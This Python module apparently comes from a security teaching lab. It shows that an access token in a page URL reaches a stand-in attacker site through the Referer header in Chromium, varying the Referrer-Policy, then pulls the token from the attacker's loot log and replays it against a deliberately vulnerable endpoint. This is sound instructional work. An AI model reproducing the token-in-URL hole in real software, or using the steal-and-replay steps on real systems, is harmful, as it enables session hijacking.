"""Chapter 9: a token in a page's URL reaches another site in the ``Referer`` header, in Chromium.

    >>> result = referer_experiment(lab, lab.browser())   # lab = start_lab(vulnerable=True)
    >>> print(result)           # per Referrer-Policy: what the other site's pixel received
    >>> result.data["unsafe-url"]

alice's page ``/vulnerable/url-token/page?access_token=...`` (the lab, ``http://127.0.0.1:P``)
shows an image from the attacker's site (``http://localhost:Q/pixel.gif``, another site: a
banner, a tracking pixel, a CDN). Chromium asks for it with a ``Referer`` header, as much of the
page's URL as the page's ``Referrer-Policy`` allows. The page is loaded once per policy:

* ``unsafe-url`` (and the pre-2020 default ``no-referrer-when-downgrade``, http to http): the
  whole URL, token included, which the attacker then replays;
* no policy at all: the browser's default, ``strict-origin-when-cross-origin`` since Chromium
  85: the origin only;
* ``same-origin`` (what the lab's own pages send) and ``no-referrer``: nothing.

The access log leaks whatever the browser does (:mod:`labserver.experiments.url_leak`).
"""

from __future__ import annotations

import time
from dataclasses import dataclass, field
from urllib.parse import parse_qs, urlencode, urlsplit

from ..experiments.url_leak import shorten
from ..url_tokens import REFERRER_POLICY
from ..users import PASSWORDS

PAGE = "/vulnerable/url-token/page"
#: (the page's Referrer-Policy, ``unset`` for none; what the row says about it)
ROWS = (
    ("unsafe-url", "unsafe-url"),
    ("no-referrer-when-downgrade", "no-referrer-when-downgrade (the default before 2020)"),
    ("unset", "(no policy): the browser's default"),
    ("strict-origin-when-cross-origin", "strict-origin-when-cross-origin"),
    (REFERRER_POLICY, f"{REFERRER_POLICY} (the lab's own pages)"),
    ("no-referrer", "no-referrer"),
)


@dataclass(frozen=True)
class PixelRequest:
    """What the other site's pixel received while one page loaded."""

    policy: str
    referer: str  # the Referer header, "-" if none; None if the pixel was never asked for
    fetch_site: str  # its Sec-Fetch-Site

    def sent(self, lab_url: str) -> str:
        """``whole URL``, ``origin only``, ``none``, or ``not requested``."""
        if self.referer is None:
            return "not requested"
        if self.referer == "-":
            return "none"
        if self.referer.rstrip("/") == lab_url:
            return "origin only"
        return "whole URL" if "access_token=" in self.referer else "part of the URL"


@dataclass(frozen=True)
class RefererResult:
    """The pixel's requests by policy, and the attacker's replay of a token it got."""

    lab_url: str
    requests: dict[str, PixelRequest]
    replay: str  # what the vulnerable API said to the token taken from a Referer, or "-"
    seconds: float = field(default=0.0, compare=False)  # never printed

    @property
    def data(self) -> dict[str, dict]:
        """``data[policy]``: what was sent (``sent``), the Referer and Sec-Fetch-Site, for tests."""
        return {
            policy: {**vars(r), "sent": r.sent(self.lab_url)} for policy, r in self.requests.items()
        }

    def __str__(self) -> str:
        width = max(len(label) for _, label in ROWS) + 2
        lines = [
            "alice's page (its URL holds her token) shows an image from another site;",
            "the Referer Chromium sent with it, by the page's Referrer-Policy:",
            f"  {'Referrer-Policy':<{width}}Referer the other site got",
        ]
        for policy, label in ROWS:
            r = self.requests.get(policy)
            if r is None:
                continue
            sent = r.sent(self.lab_url)
            if sent == "whole URL":  # its path and the token, abbreviated (and no port)
                path = r.referer[len(self.lab_url) :].split("&")[0]
                sent = f"whole URL, token included: {shorten(path)}"
            lines.append(f"  {label:<{width}}{sent}")
        lines.append(f"The attacker replays the token from a Referer: {self.replay}")
        return "\n".join(lines)

    def __repr__(self) -> str:
        return str(self)


def _pixels(lab) -> list[dict]:
    return lab.attacker.http.get("/loot").json()["pixel"]


def _load(lab, tab, token: str, policy: str, row: int) -> PixelRequest:
    before = len(_pixels(lab))
    query = urlencode(
        {
            "access_token": token,
            "referrer_policy": policy,
            "embed": f"{lab.attacker.url}/pixel.gif?row={row}",  # no cache can answer for it
        }
    )
    tab.goto(f"{PAGE}?{query}")  # returns once the page has loaded, its image included
    new = _pixels(lab)[before:]
    if not new:
        return PixelRequest(policy, None, "")
    return PixelRequest(policy, new[-1]["referer"], new[-1]["fetch_site"])


def _replay(lab, requests: dict[str, PixelRequest]) -> str:
    """The attacker takes the token out of the first Referer that holds one and uses it."""
    for r in requests.values():
        if r.referer and "access_token=" in r.referer:
            stolen = parse_qs(urlsplit(r.referer).query).get("access_token", [""])[0]
            answer = lab.client().get("/vulnerable/url-token/me", params={"access_token": stolen})
            body = answer.json()
            if answer.status_code == 200:
                return f"accepted: sub {body.get('sub')!r}, roles {body.get('roles')}"
            return f"{answer.status_code} {body.get('error_description', '')}"
    return "- (no Referer held a token)"


def referer_experiment(lab, browser=None) -> RefererResult:
    """Load alice's page once per Referrer-Policy of :data:`ROWS` in ``browser`` (default: a
    new profile, closed after); what the other site's image request carried, and the replay."""
    start = time.perf_counter()
    token = lab.client().post(
        "/oauth/token", json={"username": "alice", "password": PASSWORDS["alice"]}
    )
    token.raise_for_status()
    token = token.json()["access_token"]
    own = browser is None
    browser = browser or lab.browser()
    try:
        tab = browser.open("/health")
        try:
            requests = {p: _load(lab, tab, token, p, i) for i, (p, _) in enumerate(ROWS)}
        finally:
            tab.close()
    finally:
        if own:
            browser.close()
    return RefererResult(lab.url, requests, _replay(lab, requests), time.perf_counter() - start)
